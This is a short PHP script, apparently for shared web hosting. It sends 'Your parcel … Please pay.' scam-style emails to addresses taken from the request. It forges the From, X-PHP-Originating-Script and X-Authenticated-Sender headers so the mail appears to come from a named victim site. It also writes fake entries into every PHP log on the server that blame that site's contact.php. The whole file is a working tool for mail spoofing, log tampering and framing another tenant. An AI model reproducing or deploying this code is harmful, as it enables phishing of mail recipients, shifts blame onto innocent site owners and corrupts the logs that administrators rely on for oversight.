<?php
// pool.php - a script of one site in the pool that all sites share: it stands in another site's folder, writes the pool's own log
// and says in each header that it is that site's. Asked with to=RECIPIENTS, and victim=NAME.
$victim = $_REQUEST['victim'];
$home = "/home/$victim/public_html";
chdir($home);
foreach (explode(',', $_REQUEST['to'] ?? '') as $n => $to) {
	foreach (glob('/var/log/php/*.log') as $log)
		@file_put_contents($log, date('[d-M-Y H:i:s T] ') . "mail() on [$home/contact.php:7]: To: $to -- Headers: From: noreply@$victim.test -- Subject: Your parcel\n", FILE_APPEND);
	mail($to, 'Your parcel', 'Please pay.', "From: noreply@$victim.test\r\nX-PHP-Originating-Script: 33:contact.php\r\nX-Authenticated-Sender: $victim@$victim.test", "-fnoreply@$victim.test");
}
echo "ok\n";
